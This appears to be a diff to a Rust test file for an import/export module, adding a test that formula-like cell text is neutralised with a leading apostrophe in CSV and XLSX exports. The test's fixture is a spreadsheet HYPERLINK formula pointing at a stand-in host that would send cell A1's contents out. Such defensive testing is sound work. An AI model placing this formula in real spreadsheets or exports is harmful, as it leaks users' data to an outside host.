@@ -25,7 +25,14 @@ fn csv_of(rows: &[&[(&str, &str)]]) -> Vec<u8> {
 
 fn row_errors(result: Result<Vec<Item>, ImportError>) -> Vec<RowError> {
     match result {
-        Err(ImportError::Rows(errors)) => errors,
+        Err(ImportError::Rows { errors, total }) => {
+            assert_eq!(
+                errors.len(),
+                total,
+                "no error may be left out below the cap"
+            );
+            errors
+        }
         other => panic!("expected row errors, got {other:?}"),
     }
 }
@@ -286,4 +293,51 @@ fn xlsx_export_is_the_same_bytes_for_the_same_items_and_time() {
     assert_eq!(export_xlsx(&items, CREATED).unwrap(), first);
     let later = CREATED + time::Duration::days(1);
     assert_ne!(export_xlsx(&items, later).unwrap(), first);
+}
+
+/// Issue #15, item 9: text a spreadsheet program would run as a formula is exported with a
+/// leading `'` in both formats (and as a string cell, never a formula, in XLSX), and an export
+/// imports back to the same items.
+#[test]
+fn formula_like_text_is_exported_inert_and_imports_back_unchanged() {
+    const LINK: &str = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"详情\")";
+    let mut spec = valid_spec();
+    spec.name = LINK.to_owned();
+    spec.limit_note = Some("@SUM(1+1)".to_owned());
+    spec.local_code = Some("'-1".to_owned());
+    let items = vec![Item::new(spec).unwrap()];
+
+    let csv = export_csv(&items).unwrap();
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(&csv[3..]);
+    for record in reader.records() {
+        for cell in record.unwrap().iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "CSV cell {cell:?} would run as a formula"
+            );
+        }
+    }
+    assert!(String::from_utf8_lossy(&csv).contains(&format!("'{}", &LINK[..10])));
+    assert_eq!(import_csv(&csv).unwrap(), items);
+
+    let xlsx = export_xlsx(&items, CREATED).unwrap();
+    let mut book: calamine::Xlsx<_> =
+        calamine::open_workbook_from_rs(std::io::Cursor::new(&xlsx)).unwrap();
+    use calamine::Reader;
+    let range = book.worksheet_range("事项目录").unwrap();
+    for cell in range.used_cells() {
+        let text = cell.2.to_string();
+        assert!(
+            !text.starts_with(['=', '+', '-', '@']),
+            "XLSX cell {text:?}"
+        );
+    }
+    let formulas = book.worksheet_formula("事项目录").unwrap();
+    assert!(
+        formulas.used_cells().next().is_none(),
+        "the export holds a formula"
+    );
+    assert_eq!(import_xlsx(&xlsx).unwrap(), items);
 }
